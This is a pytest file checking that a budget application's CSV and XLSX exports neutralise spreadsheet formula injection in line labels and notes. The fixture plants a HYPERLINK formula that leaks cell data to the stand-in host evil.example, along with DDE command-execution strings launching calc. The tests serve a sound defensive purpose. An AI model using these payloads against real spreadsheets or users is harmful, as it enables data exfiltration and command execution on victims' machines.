"""Exported budgets are public: a label or note never runs as a formula in a spreadsheet."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from budgets.models import Line
from tests import factories
from workplans.models import WorkPlan

LEAK = '=HYPERLINK("http://evil.example/?leak="&C2,"Details")'


@pytest.fixture
def hostile_budget(ccm):
    plan = factories.plan("CCM", 2018)
    budget = factories.budget(plan, lines=[("salaries", "100"), ("travel", "50")])
    Line.objects.filter(category__code="salaries").update(
        label_en=LEAK, note_en="+cmd|' /C calc'!A0", note_zh_hans="@SUM(1+1)*cmd|' /C calc'!A0",
        actual=Decimal(60))  # under budget: a negative variance
    WorkPlan.objects.filter(pk=plan.pk).update(status=WorkPlan.Status.PUBLISHED)  # now public
    return budget


def test_a_formula_in_a_label_or_note_is_quoted_in_the_csv(anonymous, hostile_budget):
    response = anonymous.get(f"/budgets/{hostile_budget.pk}/budget.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    line = rows[1]
    assert line[0].startswith("'" + LEAK)
    assert line[5] == "'@SUM(1+1)*cmd|' /C calc'!A0" and line[6] == "'+cmd|' /C calc'!A0"
    assert line[2:5] == ["100.00", "60.00", "-40.00"]  # amounts, negative ones too, stay numbers


def test_a_formula_in_a_label_is_a_text_cell_in_the_xlsx(anonymous, hostile_budget):
    response = anonymous.get(f"/budgets/{hostile_budget.pk}/budget.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    label, note_en = sheet.cell(2, 1), sheet.cell(2, 7)
    assert label.data_type == "s" and label.value.startswith(LEAK)
    assert note_en.data_type == "s" and note_en.value == "+cmd|' /C calc'!A0"
    assert label.quotePrefix and note_en.quotePrefix
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(2, 5).data_type == "n" and sheet.cell(2, 5).value == -40


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_every_text_a_spreadsheet_would_evaluate_is_neutralised(text):
    from lib import spreadsheets

    assert spreadsheets.csv_cell(text) == "'" + text
    sheet = Workbook().active
    spreadsheets.append_row(sheet, [text])
    assert sheet.cell(1, 1).data_type == "s"


@pytest.mark.parametrize("value", ["-50.00", "+41", "1e3", Decimal("-5"), -5, 2.5, None,
                                   "Salaries / 薪金", "", "a=b"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    from lib import spreadsheets

    assert spreadsheets.csv_cell(value) == value


@pytest.mark.parametrize("text", [" =1+1", "\n=1+1", "|calc!A0", "\u3000=1+1"])
def test_a_formula_behind_spaces_or_a_dde_call_is_neutralised_too(text):
    from lib.spreadsheets import csv_cell, formula_like

    assert formula_like(text) and csv_cell(text) == f"'{text}"
